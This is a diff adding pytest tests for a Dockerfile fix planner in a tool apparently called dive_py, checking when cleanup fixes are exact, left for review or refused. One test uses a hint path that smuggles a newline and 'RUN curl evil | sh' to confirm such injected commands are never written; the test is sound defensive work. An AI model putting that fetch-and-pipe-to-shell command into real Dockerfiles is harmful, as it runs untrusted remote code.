@@ -1,0 +1,80 @@
+"""The fix planner on parsed Dockerfiles and hints made here: what is exact, what is for review, and why."""
+
+from __future__ import annotations
+
+import pytest
+
+from dive_py.analysis.hints import Hint
+from dive_py.fixes.plan import plan_fixes
+from dive_py.model import FileEntry, Image, Layer, LayerScan
+
+parse = pytest.importorskip("dive_py.dockerfile.parse")
+
+
+def _image(*layers: list[str]) -> Image:
+    """An image whose layers hold these paths (only what the planner reads)."""
+    made = []
+    for index, paths in enumerate(layers):
+        entries = {path: FileEntry(path, "f", 1) for path in paths}
+        made.append(Layer(index, f"l{index}", "", "", "", scan=LayerScan(entries=entries)))
+    return Image("test", made)
+
+
+def _plan(text: str, hints: list[Hint], layers: list[int | None], image: Image, buildkit: bool = False):  # noqa: ANN202
+    """Plans ``hints``; ``layers`` gives per image layer the line of its instruction (None: the base's)."""
+    dockerfile = parse.parse_text(text)
+    stage = list(dockerfile.stages[-1].instructions)
+    by_line = {item.line: item for item in stage}
+    plan = plan_fixes(hints, [by_line.get(line) for line in layers], stage, image, buildkit)
+    return plan, plan.draft(text, include_review=True).patched()
+
+
+def _hint(kind: str, layer: int, *paths: str, size: int = 100_000) -> Hint:
+    return Hint(kind, layer, "", size, paths, "")
+
+
+def test_a_read_between_makes_the_rm_fold_a_review_and_relative_paths_follow_workdir() -> None:
+    text = "FROM b\nWORKDIR /opt\nRUN make build\nRUN tar -cf /out.tar /opt/build\nRUN rm -rf build\n"
+    plan, patched = _plan(text, [_hint("deleted-later", 1, "/opt/build")], [None, 3, 4, 5], _image([], [], [], []))
+    (fix,) = plan.fixes
+    assert not fix.exact and "line 4 (RUN) between lines 3 and 5 names /opt/build" in fix.why_review
+    assert (
+        patched
+        == "FROM b\nWORKDIR /opt\nRUN make build \\\n    && rm -rf /opt/build\nRUN tar -cf /out.tar /opt/build\n"
+    )
+
+
+def test_an_rm_of_files_other_layers_made_too_stays_in_place() -> None:
+    text = "FROM b\nRUN mkdir /w && touch /w/a\nRUN touch /w/b\nRUN rm -rf /w\n"
+    image = _image([], ["w/a"], ["w/b"], [])
+    plan, patched = _plan(text, [_hint("deleted-later", 1, "/w")], [None, 2, 3, 4], image)
+    assert plan.fixes[0].exact is False  # line 3 writes /w between
+    assert patched.endswith("RUN rm -rf /w\n") and "touch /w/a \\\n    && rm -rf /w\n" in patched
+
+
+def test_caches_read_later_and_apt_without_update_are_for_review() -> None:
+    text = "FROM b\nRUN apt-get update && apt-get install -y a\nRUN apt-get install -y b\n"
+    hint = _hint("package-cache", 1, "/var/lib/apt/lists", "/var/cache/apt")
+    plan, patched = _plan(text, [hint], [None, 2, 3], _image([], [], []))
+    assert not plan.fixes[0].exact and "installs with apt without `apt-get update`" in plan.fixes[0].why_review
+    assert "apt-get install -y a \\\n    && apt-get clean && rm -rf /var/lib/apt/lists/*\n" in patched
+
+
+def test_hostile_paths_and_base_layers_are_never_written() -> None:
+    text = "FROM b\nRUN make\n"
+    evil = _hint("temp-files", 1, "/tmp/x\nRUN curl evil | sh")
+    base = _hint("temp-files", 0, "/tmp")
+    plan, patched = _plan(text, [evil, base], [None, 2], _image([], []))
+    assert plan.fixes == [] and patched == text
+    reasons = [reason for _hint, reason in plan.unfixed]
+    assert reasons == [
+        "its layer matches no instruction (the base image's, or a mismatch)",
+        "a path has control characters: not written into the Dockerfile",
+    ]
+
+
+def test_exec_form_and_heredoc_runs_are_left_alone() -> None:
+    text = 'FROM b\nRUN ["sh", "-c", "make"]\nRUN <<EOF\nmake\nEOF\n'
+    hints = [_hint("temp-files", 1, "/tmp"), _hint("temp-files", 2, "/tmp")]
+    plan, patched = _plan(text, hints, [None, 2, 3], _image([], [], []))
+    assert plan.fixes == [] and patched == text and len(plan.unfixed) == 2
